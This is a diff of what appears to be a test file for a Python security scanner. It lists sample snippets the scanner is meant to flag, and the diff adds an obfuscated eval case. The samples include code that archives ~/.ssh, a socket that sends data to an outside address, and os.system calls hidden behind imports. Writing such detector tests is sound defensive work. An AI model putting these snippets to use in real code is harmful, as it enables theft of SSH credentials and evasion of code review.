@@ -91,6 +91,7 @@ import tarfile, os~tarfile.open("x", "w").add(os.path.expanduser("~/.ssh"))
 import socket~def f(x):~  s = socket.socket()~  s.connect(("8.8.4.4", 1))~  s.send(x)
 """.strip().splitlines()
 SUSPICIOUS = {
+    "a hidden eval": """__builtins__['ev' + 'al']("len('x')")""",
     "handed on without a word": "import os\nf(os)\n",
     "from another file": "from .helper import o\no.system('true')\n",
     "a function of another file": "from .helper import *\nsystem('true')\n",
